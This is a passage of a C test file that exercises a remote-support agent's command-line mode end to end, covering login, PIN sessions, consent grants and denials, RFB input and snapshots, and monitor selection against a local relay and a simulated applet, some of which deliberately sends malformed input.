/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * `lifeline-agent --cli` against a real relay on 127.0.0.1 (harness.h),
 * with a stand-in applet written here on the real protocol pieces
 * (ll_mux, ll_control over the relay's stream) and a minimal RFB server
 * on channel 1, so that the holder, the headless RFB client, consent and
 * refusals are exercised end to end without a display:
 *  - login wrong and right (plain messages, exit codes), the token file
 *    0600 in a 0700 profile, nothing secret printed;
 *  - pin new: 6 digits + session id, a holder with a 0600 socket;
 *  - wait / grant view: input refused without control; a snapshot is the
 *    picture the fake applet sent, pixel for pixel;
 *  - request control, grant: click and text reach the applet as RFB
 *    events (UTF-8 with a non-Latin-1 character); revoke: refused again;
 *  - deny: "The user denied the request.", snapshot "no framebuffer
 *    ...";
 *  - session request waits for the answer: "ok", View only's part, and
 *    the applet's reasons of a deny in words with exit 3, 7 and 8;
 *  - session end: the holder exits and removes its socket; the applet
 *    side ending does the same; wait --timeout: "timed out".
 *  - monitors: refused (and nothing sent) before view; the applet's list
 *    one per line with the shown one marked; `session monitor` sends
 *    select_monitor, prints the new list, and the snapshot follows the
 *    framebuffer's new size (DesktopSize); an unknown name is the
 *    applet's error in plain words, and the session goes on;
 *  - a hostile applet's monitor names and refusal (C0, C1 and bidi
 *    controls) reach stdout and stderr as U+FFFD, never raw.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gdk-pixbuf/gdk-pixbuf.h>

#include "harness.h"
#include "ll_buf.h"
#include "ll_control.h"
#include "ll_mux.h"
#include "ll_xfer.h"
#include "lt_names.h"
#include "lt_wait.h"

#define TECH "alice"
#define TECH_PW "Agent-Cli-Pw-51c2"

static struct lh_relay *relay;
static char *relay_url;
static char *profile; /* logged in */

/* ---- running the CLI ---- */

struct run {
	int status; /* exit code, or -1 on a signal */
	char *out;
	char *err;
};

static void run_clear(struct run *r)
{
	g_free(r->out);
	g_free(r->err);
	memset(r, 0, sizeof(*r));
}

static GPtrArray *cli_argv(const char *prof, va_list ap)
{
	GPtrArray *a = g_ptr_array_new_with_free_func(g_free);
	const char *s;

	g_ptr_array_add(a, g_strdup(g_getenv("LL_AGENT_BIN")));
	g_ptr_array_add(a, g_strdup("--cli"));
	g_ptr_array_add(a, g_strdup("--relay"));
	g_ptr_array_add(a, g_strdup(relay_url));
	g_ptr_array_add(a, g_strdup("--ca"));
	g_ptr_array_add(a, g_strdup(relay->ca_cert));
	g_ptr_array_add(a, g_strdup("--profile"));
	g_ptr_array_add(a, g_strdup(prof));
	while ((s = va_arg(ap, const char *)) != NULL)
		g_ptr_array_add(a, g_strdup(s));
	g_ptr_array_add(a, NULL);
	return a;
}

static void log_run(const struct run *r, GPtrArray *a)
{
	g_test_message("%s %s -> %d\n  out: %s\n  err: %s",
		       (char *)a->pdata[8], (char *)a->pdata[9], r->status,
		       r->out, r->err);
}

/* Runs the CLI to its end with stdin_text (NULL: /dev/null). */
static void cli(struct run *r, const char *prof, const char *stdin_text,
		...) G_GNUC_NULL_TERMINATED;
static void cli(struct run *r, const char *prof, const char *stdin_text, ...)
{
	GPtrArray *a;
	GError *gerr = NULL;
	GPid pid;
	int in_fd = -1, out_fd, err_fd, st;
	va_list ap;
	GString *o = g_string_new(NULL), *e = g_string_new(NULL);
	struct pollfd p[2];
	char buf[4096];
	ssize_t n;

	va_start(ap, stdin_text);
	a = cli_argv(prof, ap);
	va_end(ap);
	g_assert_true(g_spawn_async_with_pipes(
		NULL, (char **)a->pdata, NULL, G_SPAWN_DO_NOT_REAP_CHILD, NULL,
		NULL, &pid, stdin_text != NULL ? &in_fd : NULL, &out_fd,
		&err_fd, &gerr));
	g_assert_no_error(gerr);
	if (in_fd >= 0) {
		g_assert_cmpint(write(in_fd, stdin_text, strlen(stdin_text)),
				==, (ssize_t)strlen(stdin_text));
		close(in_fd);
	}
	/* Both pipes to EOF: if the holder kept either open, this hangs
	 * and the test times out, which is the bug it would be. */
	p[0].fd = out_fd;
	p[1].fd = err_fd;
	p[0].events = p[1].events = POLLIN;
	while (p[0].fd >= 0 || p[1].fd >= 0) {
		g_assert_cmpint(poll(p, 2, 90000), >, 0);
		for (int i = 0; i < 2; i++) {
			if (p[i].fd < 0 || p[i].revents == 0)
				continue;
			n = read(p[i].fd, buf, sizeof(buf));
			if (n <= 0) {
				close(p[i].fd);
				p[i].fd = -1;
			} else {
				g_string_append_len(i == 0 ? o : e, buf, n);
			}
		}
	}
	g_assert_cmpint(waitpid(pid, &st, 0), ==, pid);
	r->status = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
	r->out = g_string_free(o, FALSE);
	r->err = g_string_free(e, FALSE);
	log_run(r, a);
	g_ptr_array_unref(a);
}

/* ---- a stand-in applet on the real protocol ---- */

struct fa {
	struct lh_conn *c;
	struct ll_mux *mux;
	GByteArray *in;  /* stream bytes not fed yet */
	GByteArray *ctl; /* channel 0 bytes */
	GByteArray *rfb; /* channel 1 bytes from the agent */
	GQueue msgs;     /* struct ll_control_msg * */
	bool closed;
	bool rfb_open;
	/* the agent's pixel format (from SetPixelFormat) */
	int bpp, big_endian, rshift, gshift, bshift;
	int fbu_requests;
	/* a hostile applet: answer update requests with a rectangle of
	 * this encoding (0: the picture), not before serve_after (ms) */
	int32_t bad_enc;
	int64_t serve_after;
	/* RFB in frames of at most this many bytes (0: as it comes), so
	 * that headers straddle frames on the agent's bridge */
	size_t dribble;
	/* monitors: answer select_monitor; the framebuffer (0: FB_W/H) */
	bool answer_monitors;
	int n_select;
	int fb_w, fb_h;
	/* the refusal of an unknown monitor says this (NULL: the usual) */
	const char *refusal;
	/* the user's answer to the next request while a CLI runs: grant
	 * answer_caps, or with 0 deny with this reason and wait */
	bool answer_request;
	uint32_t answer_caps;
	enum ll_deny_reason answer_reason;
	uint32_t answer_retry;
	uint32_t asked_caps; /* what that request asked for */
	/* issue 13: answer sysinfo_request with this JSON, raw (a hostile
	 * applet's may break the schema); NULL: no answer */
	const char *sysinfo_raw;
	/* issue 13: the bytes of the file offered on file_ch, sent once
	 * the agent accepts it (NULL: none) */
	const char *file_data;
	uint16_t file_ch;
	/* a hostile receiver of `session send` (fa_hostile_send): accept
	 * the offer at send_offset, write junk on the sender's channel,
	 * then once send_after bytes came: cancel (send_cancel) or close
	 * the channel */
	bool hostile_send;
	uint64_t send_offset;
	size_t send_after;
	bool send_cancel;
	uint16_t send_ch; /* the offer's channel, once it came */
	size_t send_in;   /* bytes that came on it */
	bool send_ended;  /* cancelled or closed */
};

static void fa_flush(struct fa *f)
{
	struct ll_buf *o = ll_mux_out(f->mux);

	if (ll_buf_len(o) == 0 || f->closed)
		return;
	if (lh_conn_write_all(f->c, ll_buf_data(o), ll_buf_len(o)) != LL_OK)
		f->closed = true;
	ll_buf_consume(o, ll_buf_len(o));
}

static void fa_event(struct fa *f, const struct ll_mux_event *ev)
{
	struct ll_control_msg *m;
	int n;

	switch (ev->type) {
	case LL_MUX_EV_DATA:
		if (ev->channel == 0)
			g_byte_array_append(f->ctl, ev->u.data.data,
					    (guint)ev->u.data.len);
		else if (ev->channel == 1)
			g_byte_array_append(f->rfb, ev->u.data.data,
					    (guint)ev->u.data.len);
		else if (ev->channel == f->send_ch)
			f->send_in += ev->u.data.len;
		g_assert_cmpint(ll_mux_consume(f->mux, ev->channel,
					       ev->u.data.len),
				==, 0);
		while ((n = ll_control_decode(f->ctl->data, f->ctl->len, &m,
					      NULL, 0)) > 0) {
			g_queue_push_tail(&f->msgs, m);
			g_byte_array_remove_range(f->ctl, 0, (guint)n);
		}
		g_assert_cmpint(n, ==, 0);
		break;
	case LL_MUX_EV_CLOSE:
		if (ev->channel == 1)
			f->rfb_open = false;
		break;
	case LL_MUX_EV_ERROR:
		f->closed = true;
		break;
	default:
		break;
	}
}

/* Reads what is there (waiting up to timeout_ms) and feeds the mux. */
static void fa_pump(struct fa *f, int timeout_ms)
{
	struct pollfd p = { .fd = f->c->fd, .events = POLLIN };
	struct ll_mux_event ev;
	uint8_t buf[65536];
	size_t n = 0, off = 0;
	int r;

	if (f->closed)
		return;
	/* what TLS decrypted already is not signalled by poll again */
	if (f->c->rlen == 0 && ll_tls_conn_pending(f->c->tls) == 0 &&
	    poll(&p, 1, timeout_ms) <= 0)
		return;
	if (lh_conn_read(f->c, buf, sizeof(buf), &n) != LL_OK || n == 0) {
		f->closed = true;
		return;
	}
	g_byte_array_append(f->in, buf, (guint)n);
	while ((r = ll_mux_feed(f->mux, f->in->data + off, f->in->len - off,
				&ev)) > 0) {
		fa_event(f, &ev);
		off += (size_t)r;
	}
	g_byte_array_remove_range(f->in, 0, (guint)off);
	if (r < 0)
		f->closed = true;
	fa_flush(f);
}

/* A stand-in applet on the session of an applet ticket. */
static struct fa *fa_join_ticket(const char *ticket)
{
	struct ll_mux_config cfg;
	struct lh_resp *resp = NULL;
	struct fa *f = g_new0(struct fa, 1);
	int64_t end = lh_now_ms() + 10000;

	g_assert_cmpint(lh_stream_begin_try(relay, ticket, &f->c), ==, LL_OK);
	g_assert_cmpint(lh_stream_finish_try(f->c, 10000, &resp), ==, LL_OK);
	g_assert_cmpint(resp->status, ==, 101);
	lh_resp_free(resp);
	ll_mux_config_default(&cfg);
	cfg.side = LL_SIDE_APPLET;
	f->mux = ll_mux_new(&cfg);
	f->in = g_byte_array_new();
	f->ctl = g_byte_array_new();
	f->rfb = g_byte_array_new();
	g_queue_init(&f->msgs);
	fa_flush(f);
	while (!ll_mux_ready(f->mux) && !f->closed && lh_now_ms() < end)
		fa_pump(f, 100);
	g_assert_true(ll_mux_ready(f->mux));
	return f;
}

static struct fa *fa_join(const char *pin)
{
	char *ticket = lh_redeem(relay, pin, NULL);
	struct fa *f = fa_join_ticket(ticket);

	g_free(ticket);
	return f;
}

static void fa_free(struct fa *f)
{
	if (f == NULL)
		return;
	lh_conn_free(f->c);
	ll_mux_free(f->mux);
	g_byte_array_unref(f->in);
	g_byte_array_unref(f->ctl);
	g_byte_array_unref(f->rfb);
	g_queue_clear_full(&f->msgs, (GDestroyNotify)ll_control_msg_free);
	g_free(f);
}

static void fa_send(struct fa *f, uint16_t ch, const void *data, size_t len)
{
	size_t off = 0, taken, want;
	int64_t end = lh_now_ms() + 10000;

	while (off < len) {
		want = len - off;
		if (ch == 1 && f->dribble > 0 && want > f->dribble)
			want = f->dribble;
		g_assert_cmpint(ll_mux_send(f->mux, ch,
					    (const uint8_t *)data + off, want,
					    &taken),
				==, 0);
		off += taken;
		fa_flush(f);
		if (taken < want) { /* out of credit: let the agent read */
			g_assert_cmpint(lh_now_ms(), <, end);
			fa_pump(f, 50);
		}
	}
}

static void fa_control(struct fa *f, const struct ll_control_msg *m)
{
	struct ll_buf *b = ll_buf_new(LL_CONTROL_MAX_MSG + 16);

	g_assert_cmpint(ll_control_encode(m, b), ==, 0);
	fa_send(f, 0, ll_buf_data(b), ll_buf_len(b));
	ll_buf_free(b);
}

/* Waits for a control message of type; returns it (caller frees). */
static struct ll_control_msg *fa_expect(struct fa *f, int type)
{
	struct ll_control_msg *m;
	int64_t end = lh_now_ms() + 15000;

	for (;;) {
		while ((m = g_queue_pop_head(&f->msgs)) != NULL) {
			if ((int)m->type == type)
				return m;
			ll_control_msg_free(m);
		}
		g_assert_false(f->closed);
		g_assert_cmpint(lh_now_ms(), <, end);
		fa_pump(f, 100);
	}
}

static void fa_grant(struct fa *f, uint32_t id, uint32_t caps)
{
	struct ll_control_msg m = { .type = LL_CONTROL_GRANT };

	m.u.grant.id = id;
	m.u.grant.caps = caps;
	fa_control(f, &m);
}

/* The user answers the request the CLI sent (f->answer_request). */
static void fa_answer_request(struct fa *f)
{
	struct ll_control_msg *m, d = { .type = LL_CONTROL_DENY };
	GList *l;

	for (l = f->msgs.head; l != NULL; l = l->next) {
		m = l->data;
		if (m->type == LL_CONTROL_REQUEST)
			break;
	}
	if (l == NULL)
		return;
	g_queue_delete_link(&f->msgs, l);
	f->answer_request = false;
	f->asked_caps = m->u.request.caps;
	if (f->answer_caps != 0) {
		fa_grant(f, m->u.request.id, f->answer_caps);
	} else {
		d.u.deny.id = m->u.request.id;
		d.u.deny.reason = f->answer_reason;
		d.u.deny.retry_after = f->answer_retry;
		fa_control(f, &d);
	}
	ll_control_msg_free(m);
}

/* ---- the fake RFB server on channel 1 ---- */

#define FB_W 7
#define FB_H 5

static void fb_color(int x, int y, uint8_t rgb[3])
{
	rgb[0] = (uint8_t)(x * 37 + 11);
	rgb[1] = (uint8_t)(y * 51 + 3);
	rgb[2] = (uint8_t)((x ^ y) * 29 + 100);
}

static GBytes *rfb_take(struct fa *f, size_t n)
{
	int64_t end = lh_now_ms() + 10000;
	GBytes *b;

	while (f->rfb->len < n) {
		g_assert_false(f->closed);
		g_assert_cmpint(lh_now_ms(), <, end);
		fa_pump(f, 50);
	}
	b = g_bytes_new(f->rfb->data, n);
	g_byte_array_remove_range(f->rfb, 0, (guint)n);
	return b;
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static void fa_rfb_open(struct fa *f)
{
	static const uint8_t server_init[] = {
		0,  FB_W, 0, FB_H, 32, 24, 1, 1, 0, 255, 0,   255, 0,   255,
		16, 8,    0, 0,    0,  0,  0, 0, 0, 4,   'f', 'a', 'k', 'e',
	};
	uint8_t sec_ok[4] = { 0 };
	GBytes *b;

	g_assert_cmpint(ll_mux_open(f->mux, 1), ==, 0);
	f->rfb_open = true;
	fa_flush(f);
	fa_send(f, 1, "RFB 003.008\n", 12);
	b = rfb_take(f, 12);
	g_assert_cmpmem(g_bytes_get_data(b, NULL), 12, "RFB 003.008\n", 12);
	g_bytes_unref(b);
	fa_send(f, 1, "\x01\x01", 2); /* one type: None */
	b = rfb_take(f, 1);
	g_assert_cmpint(((const uint8_t *)g_bytes_get_data(b, NULL))[0], ==,
			1);
	g_bytes_unref(b);
	fa_send(f, 1, sec_ok, 4);
	g_bytes_unref(rfb_take(f, 1)); /* ClientInit */
	fa_send(f, 1, server_init, sizeof(server_init));
}

static void fa_send_picture(struct fa *f)
{
	int fb_w = f->fb_w > 0 ? f->fb_w : FB_W;
	int fb_h = f->fb_h > 0 ? f->fb_h : FB_H;
	size_t bpp = (size_t)f->bpp / 8;
	size_t len = 4 + 12 + (size_t)fb_w * fb_h * bpp;
	uint8_t *m = g_malloc0(len), *p, rgb[3];
	uint32_t px;
	int x, y;
	size_t i;

	g_assert_cmpint(f->bpp, ==, 32);
	m[0] = 0; /* FramebufferUpdate */
	m[3] = 1; /* one rectangle */
	m[8] = 0;
	m[9] = (uint8_t)fb_w;
	m[10] = 0;
	m[11] = (uint8_t)fb_h;
	put32(m + 12, 0); /* raw */
	p = m + 16;
	for (y = 0; y < fb_h; y++) {
		for (x = 0; x < fb_w; x++, p += bpp) {
			fb_color(x, y, rgb);
			px = (uint32_t)rgb[0] << f->rshift |
			     (uint32_t)rgb[1] << f->gshift |
			     (uint32_t)rgb[2] << f->bshift;
			for (i = 0; i < 4; i++)
				p[f->big_endian ? i : 3 - i] =
					(uint8_t)(px >> (8 * (3 - i)));
		}
	}
	fa_send(f, 1, m, len);
	g_free(m);
}

/* ---- monitors, as the applet has them ---- */

static const struct ll_control_monitor fa_mons[] = {
	{ "all", 0, 0, 1424, 768 },
	{ "DP-1", 400, 0, 1024, 768 },
	{ "HDMI-2", -400, 100, 400, 300 },
};
/* The framebuffer while HDMI-2 is shown. */
#define FB2_W 9
#define FB2_H 6

static void fa_send_monitors(struct fa *f, const char *current)
{
	struct ll_control_msg m = { .type = LL_CONTROL_MONITORS };

	m.u.monitors.list = (struct ll_control_monitor *)fa_mons;
	m.u.monitors.n = G_N_ELEMENTS(fa_mons);
	m.u.monitors.current = (char *)current;
	fa_control(f, &m);
}

/* A DesktopSize update: the viewer asks for the new picture itself. */
static void fa_send_resize(struct fa *f, int w, int h)
{
	/* type 0, one rectangle at 0,0 of w x h, encoding -223 */
	uint8_t m[16] = { 0, 0, 0, 1 };

	m[9] = (uint8_t)w;
	m[11] = (uint8_t)h;
	put32(m + 12, (uint32_t)-223);
	f->fb_w = w;
	f->fb_h = h;
	fa_send(f, 1, m, sizeof(m));
}

/* Answers the agent's select_monitor messages as the applet does. */
static void fa_answer_monitors(struct fa *f)
{
	struct ll_control_msg *m, e = { .type = LL_CONTROL_ERROR };
	GList *l, *next;
	char *t;
	size_t i;
	bool known;

	for (l = f->msgs.head; l != NULL; l = next) {
		next = l->next;
		m = l->data;
		if (m->type != LL_CONTROL_SELECT_MONITOR)
			continue;
		g_queue_delete_link(&f->msgs, l);
		f->n_select++;
		known = false;
		for (i = 0; i < G_N_ELEMENTS(fa_mons); i++)
			if (strcmp(fa_mons[i].name,
				   m->u.select_monitor.name) == 0)
				known = true;
		if (!known) {
			t = f->refusal != NULL
				    ? g_strdup(f->refusal)
				    : g_strdup_printf(
					      "no monitor named \"%s\" "
					      "on this screen (there "
					      "are: all, DP-1, HDMI-2)",
					      m->u.select_monitor.name);
			e.u.error.code = "unknown_monitor";
			e.u.error.message = t;
			fa_control(f, &e);
			g_free(t);
		} else {
			if (strcmp(m->u.select_monitor.name, "HDMI-2") == 0)
				fa_send_resize(f, FB2_W, FB2_H);
			else
				fa_send_resize(f, FB_W, FB_H);
			fa_send_monitors(f, m->u.select_monitor.name);
		}
		ll_control_msg_free(m);
	}
}

/* One 1x1 rectangle in an encoding the agent must refuse, with a few
 * bytes of would-be payload behind it. */
static void fa_send_bad_rect(struct fa *f)
{
	uint8_t m[4 + 12 + 16] = { 0, 0, 0, 1 };

	m[9] = 1;
	m[11] = 1;
	put32(m + 12, (uint32_t)f->bad_enc);
	memset(m + 16, 0xee, 16);
	fa_send(f, 1, m, sizeof(m));
}

struct rfb_event {
	int type;   /* 4 key, 5 pointer */
	uint32_t a; /* key: keysym; pointer: mask */
	int down, x, y;
};

/* Serves client messages that are there now; key and pointer events go
 * to evs (may be NULL). */
static void fa_rfb_serve(struct fa *f, GArray *evs)
{
	const uint8_t *d;
	struct rfb_event e;
	size_t need;
	GBytes *b;

	if (lh_now_ms() < f->serve_after)
		return;
	for (;;) {
		if (f->rfb->len == 0)
			return;
		d = f->rfb->data;
		switch (d[0]) {
		case 0:
			need = 20;
			break;
		case 2:
			if (f->rfb->len < 4)
				return;
			need = 4 + 4 * (size_t)(d[2] << 8 | d[3]);
			break;
		case 3:
			need = 10;
			break;
		case 4:
			need = 8;
			break;
		case 5:
			need = 6;
			break;
		default:
			g_error("unexpected RFB client message %u", d[0]);
		}
		if (f->rfb->len < need)
			return;
		b = rfb_take(f, need);
		d = g_bytes_get_data(b, NULL);
		memset(&e, 0, sizeof(e));
		switch (d[0]) {
		case 0:
			f->bpp = d[4];
			f->big_endian = d[6];
			g_assert_cmpint(d[7], ==, 1); /* true colour */
			f->rshift = d[14];
			f->gshift = d[15];
			f->bshift = d[16];
			break;
		case 3:
			f->fbu_requests++;
			/* answer the non-incremental ones with a picture */
			if (d[1] == 0 && f->bad_enc != 0)
				fa_send_bad_rect(f);
			else if (d[1] == 0)
				fa_send_picture(f);
			break;
		case 4:
			e.type = 4;
			e.down = d[1];
			e.a = (uint32_t)d[4] << 24 | (uint32_t)d[5] << 16 |
			      (uint32_t)d[6] << 8 | d[7];
			break;
		case 5:
			e.type = 5;
			e.a = d[1];
			e.x = d[2] << 8 | d[3];
			e.y = d[4] << 8 | d[5];
			break;
		}
		if (e.type != 0 && evs != NULL)
			g_array_append_val(evs, e);
		g_bytes_unref(b);
	}
}

/* Sends json on channel 0 as it is, framed (u32 length + JSON), so a
 * hostile applet can send what ll_control_encode would refuse. */
static void fa_raw(struct fa *f, const char *json)
{
	size_t len = strlen(json);
	uint8_t *b = g_malloc(4 + len);

	b[0] = (uint8_t)(len >> 24);
	b[1] = (uint8_t)(len >> 16);
	b[2] = (uint8_t)(len >> 8);
	b[3] = (uint8_t)len;
	memcpy(b + 4, json, len);
	fa_send(f, 0, b, 4 + len);
	g_free(b);
}

/* Answers the agent's sysinfo_request with f->sysinfo_raw. */
static void fa_answer_sysinfo(struct fa *f)
{
	struct ll_control_msg *m;
	GList *l;

	for (l = f->msgs.head; l != NULL; l = l->next) {
		m = l->data;
		if (m->type == LL_CONTROL_SYSINFO_REQUEST)
			break;
	}
	if (l == NULL)
		return;
	g_queue_delete_link(&f->msgs, l);
	ll_control_msg_free(m);
	fa_raw(f, f->sysinfo_raw);
}

/* The agent accepted the file offered on f->file_ch: its bytes, in one
 * chunk, on that channel. */
static void fa_answer_file(struct fa *f)
{
	struct ll_xfer_enc *e;
	struct ll_buf *b;
	struct ll_control_msg *m;
	GList *l;

	for (l = f->msgs.head; l != NULL; l = l->next) {
		m = l->data;
		if (m->type == LL_CONTROL_FILE_ACCEPT &&
		    m->u.file_accept.channel == f->file_ch)
			break;
	}
	if (l == NULL)
		return;
	g_queue_delete_link(&f->msgs, l);
	ll_control_msg_free(m);
	e = ll_xfer_enc_new();
	b = ll_buf_new(4096);
	g_assert_cmpint(ll_xfer_enc_chunk(e, f->file_data,
					  strlen(f->file_data), b),
			==, 0);
	fa_send(f, f->file_ch, ll_buf_data(b), ll_buf_len(b));
	ll_buf_free(b);
	ll_xfer_enc_free(e);
	f->file_data = NULL;
}

/* A hostile receiver of the agent's file (fa.hostile_send). */
static void fa_hostile_send(struct fa *f)
{
	struct ll_control_msg a = { .type = LL_CONTROL_FILE_ACCEPT };
	struct ll_control_msg c = { .type = LL_CONTROL_FILE_CANCEL };
	struct ll_control_msg *m;
	GList *l;

	if (f->send_ch == 0) {
		for (l = f->msgs.head; l != NULL; l = l->next) {
			m = l->data;
			if (m->type == LL_CONTROL_FILE_OFFER)
				break;
		}
		if (l == NULL)
			return;
		f->send_ch = m->u.file_offer.channel;
		g_queue_delete_link(&f->msgs, l);
		ll_control_msg_free(m);
		a.u.file_accept.channel = f->send_ch;
		a.u.file_accept.offset = f->send_offset;
		fa_control(f, &a);
		/* the sender's channel carries nothing its way: dropped */
		fa_send(f, f->send_ch, "junk on the sender's channel", 28);
		return;
	}
	if (f->send_ended || f->send_in < f->send_after)
		return;
	f->send_ended = true;
	if (f->send_cancel) {
		c.u.file_cancel.channel = f->send_ch;
		c.u.file_cancel.reason = LL_FILE_CANCELLED;
		fa_control(f, &c);
	} else {
		g_assert_cmpint(ll_mux_close(f->mux, f->send_ch), ==, 0);
		fa_flush(f);
	}
}

/* Runs the CLI while the fake applet keeps answering. */
static void cli_pumping(struct run *r, struct fa *f, GArray *evs,
			const char *prof, ...) G_GNUC_NULL_TERMINATED;
static void cli_pumping(struct run *r, struct fa *f, GArray *evs,
			const char *prof, ...)
{
	GPtrArray *a;
	GError *gerr = NULL;
	GPid pid;
	int out_fd, err_fd, st = 0;
	va_list ap;
	GString *o = g_string_new(NULL), *e = g_string_new(NULL);
	char buf[4096];
	ssize_t n;
	pid_t w = 0;
	int64_t end = lh_now_ms() + 60000;

	va_start(ap, prof);
	a = cli_argv(prof, ap);
	va_end(ap);
	g_assert_true(g_spawn_async_with_pipes(NULL, (char **)a->pdata, NULL,
					       G_SPAWN_DO_NOT_REAP_CHILD, NULL,
					       NULL, &pid, NULL, &out_fd,
					       &err_fd, &gerr));
	g_assert_no_error(gerr);
	fcntl(out_fd, F_SETFL, O_NONBLOCK);
	fcntl(err_fd, F_SETFL, O_NONBLOCK);
	while (w == 0) {
		g_assert_cmpint(lh_now_ms(), <, end);
		fa_pump(f, 20);
		fa_rfb_serve(f, evs);
		if (f->answer_monitors)
			fa_answer_monitors(f);
		if (f->answer_request)
			fa_answer_request(f);
		if (f->sysinfo_raw != NULL)
			fa_answer_sysinfo(f);
		if (f->file_data != NULL)
			fa_answer_file(f);
		if (f->hostile_send)
			fa_hostile_send(f);
		while ((n = read(out_fd, buf, sizeof(buf))) > 0)
			g_string_append_len(o, buf, n);
		while ((n = read(err_fd, buf, sizeof(buf))) > 0)
			g_string_append_len(e, buf, n);
		w = waitpid(pid, &st, WNOHANG);
	}
	fcntl(out_fd, F_SETFL, 0);
	fcntl(err_fd, F_SETFL, 0);
	while ((n = read(out_fd, buf, sizeof(buf))) > 0)
		g_string_append_len(o, buf, n);
	while ((n = read(err_fd, buf, sizeof(buf))) > 0)
		g_string_append_len(e, buf, n);
	close(out_fd);
	close(err_fd);
	r->status = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
	r->out = g_string_free(o, FALSE);
	r->err = g_string_free(e, FALSE);
	log_run(r, a);
	g_ptr_array_unref(a);
}

/* ---- helpers ---- */

static char *new_profile(const char *name)
{
	char *p = g_build_filename(lh_tmpdir(), name, NULL);
	char *argv[] = { (char *)"rm", (char *)"-rf", p, NULL };
	int st = -1;

	/* an argv, not a shell: the path is never parsed */
	g_assert_true(g_spawn_sync(NULL, argv, NULL, G_SPAWN_SEARCH_PATH, NULL,
				   NULL, NULL, NULL, &st, NULL));
	g_assert_true(g_spawn_check_wait_status(st, NULL));
	return p;
}

static mode_t mode_of(const char *path)
{
	struct stat st;

	g_assert_cmpint(stat(path, &st), ==, 0);
	return st.st_mode;
}

static char *sock_of(const char *prof, const char *id)
{
	return g_strdup_printf("%s/%s.sock", prof, id);
}

/* How many holder processes for this session id are alive; the pid of
 * one of them in *pid (may be NULL). */
static int holders_alive(const char *id, pid_t *pid)
{
	GDir *d = g_dir_open("/proc", 0, NULL);
	const char *name;
	char *path, *cmd;
	gsize len, i;
	int n = 0;

	while ((name = g_dir_read_name(d)) != NULL) {
		if (!g_ascii_isdigit(name[0]))
			continue;
		path = g_strdup_printf("/proc/%s/cmdline", name);
		if (g_file_get_contents(path, &cmd, &len, NULL)) {
			for (i = 0; i + 1 < len; i++)
				if (cmd[i] == '\0')
					cmd[i] = ' ';
			if (strstr(cmd, "--cli-holder") != NULL &&
			    strstr(cmd, id) != NULL) {
				/* a zombie does not count */
				char *stat_path = g_strdup_printf(
					"/proc/%s/stat", name);
				char *st = NULL;

				if (g_file_get_contents(stat_path, &st, NULL,
							NULL) &&
				    strstr(st, ") Z ") == NULL) {
					n++;
					if (pid != NULL)
						*pid = (pid_t)atoi(name);
				}
				g_free(st);
				g_free(stat_path);
			}
			g_free(cmd);
		}
		g_free(path);
	}
	g_dir_close(d);
	return n;
}

/* The holder exits (within 5 s), its socket removed before. */
static void assert_holder_gone(const char *prof, const char *id)
{
	char *sock = sock_of(prof, id);
	pid_t pid;

	while (holders_alive(id, &pid) > 0)
		g_assert_true(lt_wait_pid_exit(pid, 5000));
	g_assert_false(g_file_test(sock, G_FILE_TEST_EXISTS));
	g_free(sock);
}

struct pin {
	char *pin;
	char *id;
};

static void pin_new(const char *request, struct pin *p)
{
	struct run r = { 0 };
	char **lines;
	char *sock;

	if (request != NULL)
		cli(&r, profile, NULL, "pin", "new", "--request", request,
		    NULL);
	else
		cli(&r, profile, NULL, "pin", "new", NULL);
	g_assert_cmpint(r.status, ==, 0);
	lines = g_strsplit(r.out, "\n", -1);
	g_assert_cmpuint(g_strv_length(lines), ==, 3);
	g_assert_cmpstr(lines[2], ==, "");
	g_assert_true(g_regex_match_simple("^[0-9]{6}$", lines[0], 0, 0));
	g_assert_true(g_regex_match_simple("^[0-9a-f]{32}$", lines[1], 0, 0));
	p->pin = g_strdup(lines[0]);
	p->id = g_strdup(lines[1]);
	lh_secret("pin", p->pin);
	g_strfreev(lines);
	sock = sock_of(profile, p->id);
	g_assert_true(g_file_test(sock, G_FILE_TEST_EXISTS));
	g_assert_true(S_ISSOCK(mode_of(sock)));
	g_assert_cmpint(mode_of(sock) & 07777, ==, 0600);
	g_assert_cmpint(holders_alive(p->id, NULL), ==, 1);
	g_free(sock);
	run_clear(&r);
}

static void pin_clear(struct pin *p)
{
	g_free(p->pin);
	g_free(p->id);
}

/* ---- tests ---- */

static void test_login(void)
{
	char *prof = new_profile("p-login");
	char *tok_path, *token = NULL, *none = new_profile("p-none");
	struct run r = { 0 };
	char *pw_line = g_strdup_printf("%s\n", TECH_PW);

	/* wrong password: refused in plain words, nothing stored */
	cli(&r, prof, "not-the-password\n", "login", "--user", TECH,
	    "--password-stdin", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "login refused"));
	g_assert_cmpstr(r.out, ==, "");
	tok_path = g_build_filename(prof, "token", NULL);
	g_assert_false(g_file_test(tok_path, G_FILE_TEST_EXISTS));
	run_clear(&r);

	/* unknown user: the same refusal (no account enumeration here) */
	cli(&r, prof, pw_line, "login", "--user", "nobody", "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 6);
	run_clear(&r);

	/* no --user */
	cli(&r, prof, pw_line, "login", "--password-stdin", NULL);
	g_assert_cmpint(r.status, ==, 2);
	run_clear(&r);

	/* no terminal and no --password-stdin: a clear usage error */
	cli(&r, prof, NULL, "login", "--user", TECH, NULL);
	g_assert_cmpint(r.status, ==, 2);
	g_assert_nonnull(strstr(r.err, "--password-stdin"));
	run_clear(&r);

	cli(&r, prof, pw_line, "login", "--user", TECH, "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "logged in as "));
	g_assert_cmpint(mode_of(prof) & 07777, ==, 0700);
	g_assert_cmpint(mode_of(tok_path) & 07777, ==, 0600);
	g_assert_true(g_file_get_contents(tok_path, &token, NULL, NULL));
	g_assert_cmpuint(strlen(token), >=, 16);
	lh_secret("token", token);
	g_assert_null(strstr(r.out, token));
	g_assert_null(strstr(r.err, token));
	g_assert_null(strstr(r.out, TECH_PW));
	run_clear(&r);

	/* --json */
